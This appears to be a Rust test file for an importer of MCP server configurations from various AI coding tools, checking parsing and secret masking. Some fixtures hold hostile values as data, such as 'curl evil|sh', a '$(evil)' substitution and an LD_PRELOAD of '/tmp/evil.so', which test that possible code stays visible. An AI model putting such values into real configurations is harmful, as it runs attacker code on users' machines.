//! Pasted texts and files of no known application: the usual shapes, told apart by what is in them.

use std::fs;

use gatehouse_integrations::App;
use gatehouse_integrations::import::{FilledServer, has_plain_secret, project_entry, read_file, read_text};
use serde_json::{Map, Value, json};

use crate::TestHome;

fn names(text: &str) -> (Option<App>, Vec<String>) {
    let settings = read_text(text, &TestHome::new().folders).unwrap();
    (settings.app, settings.servers.into_iter().map(|server| server.name).collect())
}

#[test]
fn reads_the_usual_shapes() {
    for (text, app, wanted) in [
        (r#"{"mcpServers":{"a":{"command":"x"},"b":{"url":"https://b.example"}}}"#, None, &["a", "b"][..]),
        (r#"{"a":{"command":"x"},"version":3}"#, None, &["a"]),
        (r#""a": {"command":"x"}, "b": {"command":"y"}"#, None, &["a", "b"]),
        (r#"{"command":"x","args":[]}"#, None, &[""]),
        (r#"{"name":"n","url":"https://n.example"}"#, None, &["n"]),
        (r#"[{"name":"n","command":"x"}]"#, None, &["n"]),
        (r#"{"servers":{"a":{"command":"x"}},"inputs":[]}"#, Some(App::VsCode), &["a"]),
        (r#"{"mcp":{"servers":{"a":{"command":"x"}}}}"#, Some(App::VsCode), &["a"]),
        (r#"{"mcp":{"a":{"type":"local","command":["x"]}}}"#, Some(App::OpenCode), &["a"]),
        (r#"{"context_servers":{"a":{"command":"x"}}}"#, Some(App::Zed), &["a"]),
        (r#"{"projects":{"/p":{"mcpServers":{"a":{"command":"x"}}}}}"#, Some(App::ClaudeCode), &["a"]),
        ("[mcp_servers.a]\ncommand = \"x\"", Some(App::Codex), &["a"]),
        ("mcpServers:\n  - name: a\n    command: x", Some(App::Continue), &["a"]),
        ("{}", None, &[]),
        ("", None, &[]),
    ] {
        let wanted: Vec<String> = wanted.iter().map(|&name| name.to_owned()).collect();
        assert_eq!(names(text), (app, wanted), "{text}");
    }
}

#[test]
fn keeps_what_gatehouse_wrote_itself() {
    let entry = json!({
        "url": "https://a.example/mcp",
        "signIn": { "scopes": ["x"] },
        "limits": { "callSecs": 9 },
        "group": "work",
        "autostart": false
    });
    let mut written = entry.clone();
    written["gatehouse"] = json!({ "id": "srv-1" });
    let text = json!({ "version": 1, "mcpServers": { "a": written } }).to_string();
    let settings = read_text(&text, &TestHome::new().folders).unwrap();
    assert_eq!(Value::Object(settings.servers[0].entry.clone()), entry);
    assert!(settings.servers[0].left_out.is_empty());
}

#[test]
fn names_what_it_leaves_out() {
    let text = r#"{"mcpServers":{"a":{
        "command":"x", "url":null, "healthCheck":{"every":5}, "icons":[], "tools":["*"], "headers":{"A":"b"},
        "autoApprove":"yes", "args":"not a list"
    }}}"#;
    let settings = read_text(text, &TestHome::new().folders).unwrap();
    let mut found: Vec<(&str, &str)> = settings.servers[0]
        .left_out
        .iter()
        .map(|left| (left.name.as_str(), left.reason.key.as_str()))
        .collect();
    found.sort_unstable();
    assert_eq!(
        found,
        [
            ("args", "import.leftOut.invalid"),
            ("autoApprove", "import.leftOut.invalid"),
            ("headers", "import.leftOut.otherType"),
            ("healthCheck", "import.leftOut.unknown"),
            ("icons", "import.leftOut.ofApplication"),
            ("tools", "import.leftOut.tools"),
        ]
    );
}

#[test]
fn asks_for_secrets_that_another_gatehouse_stored() {
    let text = r#"{"mcpServers":{"a":{"command":"x","env":{"K":"${secret:K}"}}}}"#;
    let settings = read_text(text, &TestHome::new().folders).unwrap();
    let inputs: Vec<(&str, bool)> =
        settings.servers[0].inputs.iter().map(|input| (input.id.as_str(), input.is_secret)).collect();
    assert_eq!(inputs, [("secret:K", true)]);
}

#[test]
fn summaries_have_no_secrets() {
    for (entry, wanted, has_secret) in [
        (json!({"command": "npx", "args": ["-y", "a b"]}), "npx -y \"a b\"", false),
        (json!({"command": "x", "args": ["--token", "s3cret"]}), "x --token ••••••", true),
        (json!({"url": "https://me:s3cret@a.example/"}), "https://me:••••••@a.example/", true),
        (json!({"builtin": {"kind": "time"}}), "time", false),
        (json!({}), "", false),
    ] {
        let Value::Object(entry) = entry else { panic!("{entry}") };
        assert_eq!(has_plain_secret(&entry), has_secret, "{wanted}");
        assert_eq!(unfilled(entry).summary(), wanted);
    }
}

fn unfilled(entry: Map<String, Value>) -> FilledServer {
    FilledServer { entry, secrets: Vec::new() }
}

fn settings_of(server: &FilledServer) -> Vec<(String, String)> {
    server.settings().into_iter().map(|setting| (setting.name, setting.value)).collect()
}

fn pairs<const N: usize>(settings: [(&str, &str); N]) -> Vec<(String, String)> {
    settings.map(|(name, value)| (name.to_owned(), value.to_owned())).into()
}

#[test]
fn settings_show_what_could_run_and_no_secret() {
    let entry = json!({
        "command": "x",
        "args": ["y"],
        "env": { "API_KEY": "s3cret", "LD_PRELOAD": "/tmp/evil.so", "K": "${secret:K}" },
        "cwd": "/srv",
        "headersFrom": { "command": "z" }
    });
    let Value::Object(entry) = entry else { panic!("{entry}") };
    let wanted = pairs([
        ("env.API_KEY", "••••••"),
        ("env.LD_PRELOAD", "/tmp/evil.so"),
        ("env.K", "${secret:K}"),
        ("cwd", "/srv"),
        ("headersFrom", r#"{"command":"z"}"#),
    ]);
    assert_eq!(settings_of(&unfilled(entry)), wanted);
}

/// Whoever writes the settings chooses the names of variables, so a name is no reason to hide what could be code.
#[test]
fn settings_show_code_in_the_place_of_a_secret() {
    let text = r#"{"mcpServers":{"a":{"command":"rclone","env":{
        "RCLONE_PASSWORD_COMMAND": "curl evil|sh", "GIT_TOKEN": "${T:-$(evil)}", "API_KEY": "s3cret-1",
        "AUTH_TOKEN": "${U:-s3cret-2}", "OTHER_TOKEN": "${V}"
    }}}}"#;
    let settings = read_text(text, &TestHome::new().folders).unwrap();
    let server = settings.servers[0].fill_known().unwrap();
    let fields: Vec<&str> = server.secrets.iter().map(|secret| secret.field.as_str()).collect();
    for field in ["env/RCLONE_PASSWORD_COMMAND", "env/GIT_TOKEN", "env/API_KEY", "env/AUTH_TOKEN"] {
        assert!(fields.contains(&field), "{field} goes to the keychain: {fields:?}");
    }
    let wanted = pairs([
        ("env.RCLONE_PASSWORD_COMMAND", "curl evil|sh"),
        ("env.GIT_TOKEN", "$(evil)"),
        ("env.API_KEY", "${secret:API_KEY}"),
        ("env.AUTH_TOKEN", "${secret:AUTH_TOKEN}"),
        ("env.OTHER_TOKEN", "${env:V}"),
    ]);
    assert_eq!(settings_of(&server), wanted);
}

#[test]
fn settings_show_what_a_built_in_server_reaches() {
    let text = r#"{"mcpServers":{"a":{"type":"builtin","builtin":{"kind":"files","folder":"/"}},
        "b":{"type":"builtin","builtin":{"kind":"fetch","allowPrivate":true}}}}"#;
    let settings = read_text(text, &TestHome::new().folders).unwrap();
    let shown = settings.servers.iter().map(|server| settings_of(&server.fill_known().unwrap()));
    let wanted = [
        pairs([("type", "builtin"), ("builtin.folder", "/")]),
        pairs([("type", "builtin"), ("builtin.allowPrivate", "true")]),
    ];
    assert_eq!(shown.collect::<Vec<_>>(), wanted);
}

#[test]
fn entries_of_projects_are_translated_whole_or_not_at_all() {
    let home = TestHome::new();
    let entry = |raw: Value| project_entry("a", raw, &home.folders).map(Value::Object);
    let translated = entry(json!({
        "type": "stdio", "command": "${TOOL:-npx}", "args": ["-y", "${PKG:-docs}"],
        "env": { "API_KEY": "${API_KEY}", "STAGE_TOKEN": "${STAGE_TOKEN:-none}" }, "alwaysLoad": true
    }));
    let wanted = json!({
        "command": "npx", "args": ["-y", "docs"],
        "env": { "API_KEY": "${env:API_KEY}", "STAGE_TOKEN": "none" }
    });
    assert_eq!(translated, Ok(wanted));
    for (raw, problem) in [
        (json!({ "command": "x", "args": ["${NO_DEFAULT}"] }), "import.problem.inputMissing"),
        (json!({ "command": "x", "disabledTools": ["y"] }), "import.problem.notTranslated"),
        (json!({ "command": "x", "surprise": 1 }), "import.problem.notTranslated"),
        (json!("x"), "import.problem.noObject"),
    ] {
        assert_eq!(entry(raw.clone()).unwrap_err().key, problem, "{raw}");
    }
}

#[test]
fn reads_any_file_by_its_name_and_shape() {
    let home = TestHome::new();
    for (name, text) in [
        ("some.json", r#"{"mcpServers":{"a":{"command":"x"}}}"#),
        ("some.toml", "[mcp_servers.a]\ncommand = \"x\""),
        ("some.yml", "mcpServers:\n  - name: a\n    command: x"),
    ] {
        let path = home.folders.home().join(name);
        fs::write(&path, text).unwrap();
        let settings = read_file(&path, &home.folders).unwrap();
        assert_eq!(settings.servers.len(), 1, "{name}");
        assert_eq!(fs::read_to_string(&path).unwrap(), text);
    }
}

/// What can't be imported is shown too, with the reason.
#[test]
fn shows_no_secret_of_a_sign_in_that_is_not_taken_out() {
    let text = r#"{"mcpServers":{"a":{"url":"https://a.example/mcp","headers":{"X-Key":"${secret:A}${secret:B}"},
        "oauth":{"clientId":"id-1","clientSecret":"s3cret-1"}}}}"#;
    let settings = read_text(text, &TestHome::new().folders).unwrap();
    let server = &settings.servers[0];
    assert!(server.fill_known().is_err(), "one header would need two secrets");
    let shown = format!("{:?}", settings_of(&unfilled(server.entry.clone())));
    assert!(shown.contains("id-1") && !shown.contains("s3cret-1"), "{shown}");
}
